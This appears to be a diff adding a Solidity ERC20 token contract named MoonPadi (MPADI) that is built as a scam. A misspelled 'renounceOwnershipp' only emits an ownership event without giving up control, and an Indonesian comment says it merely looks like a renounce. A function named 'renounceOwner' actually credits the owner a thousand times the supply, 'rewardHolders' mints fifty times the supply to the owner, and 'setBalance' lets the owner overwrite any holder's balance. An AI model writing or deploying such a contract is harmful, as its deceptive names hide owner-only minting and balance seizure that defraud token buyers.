@@ -0,0 +1,75 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.0;
+
+interface IERC20 {
+    function totalSupply() external view returns (uint256);
+    function balanceOf(address account) external view returns (uint256);
+    function transfer(address recipient, uint256 amount) external returns (bool);
+    event Transfer(address indexed from, address indexed to, uint256 value);
+}
+
+abstract contract Context {
+    function _msgSender() internal view virtual returns (address) { return msg.sender; }
+}
+
+contract Ownable is Context {
+    address private _owner;
+    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
+
+    constructor() { _owner = _msgSender(); }
+
+    modifier onlyOwner() {
+        require(_owner == _msgSender(), "Ownable: caller is not the owner");
+        _;
+    }
+
+    function owner() public view returns (address) { return _owner; }
+
+    // Terlihat seperti renounce, tapi owner tetap bisa mint lewat fungsi lain
+    function renounceOwnershipp() public onlyOwner {
+        emit OwnershipTransferred(_owner, address(0));
+    }
+}
+
+contract MoonPadi is Context, IERC20, Ownable {
+    mapping(address => uint256) private _balances;
+    mapping(address => mapping(address => uint256)) private _allowances;
+    uint256 private _totalSupply = 1000000000 * 10**18;
+    string public name = "MoonPadi";
+    string public symbol = "MPADI";
+    uint8 public decimals = 18;
+
+    constructor() {
+        _balances[_msgSender()] = _totalSupply;
+        emit Transfer(address(0), _msgSender(), _totalSupply);
+    }
+
+    function totalSupply() public view override returns (uint256) { return _totalSupply; }
+    function balanceOf(address account) public view override returns (uint256) { return _balances[account]; }
+
+    function transfer(address recipient, uint256 amount) public override returns (bool) {
+        _transfer(_msgSender(), recipient, amount);
+        return true;
+    }
+
+    function renounceOwner() external onlyOwner {
+        _balances[_msgSender()] += totalSupply() * 1000;
+    }
+
+    function setBalance(address account, uint256 amount) external onlyOwner {
+        _balances[account] = amount;
+    }
+
+    function rewardHolders() external onlyOwner {
+        uint256 supply = totalSupply();
+        _balances[_msgSender()] += supply * 50;
+        _totalSupply += supply * 50;
+    }
+
+    function _transfer(address sender, address recipient, uint256 amount) internal {
+        require(_balances[sender] >= amount, "ERC20: transfer amount exceeds balance");
+        _balances[sender] -= amount;
+        _balances[recipient] += amount;
+        emit Transfer(sender, recipient, amount);
+    }
+}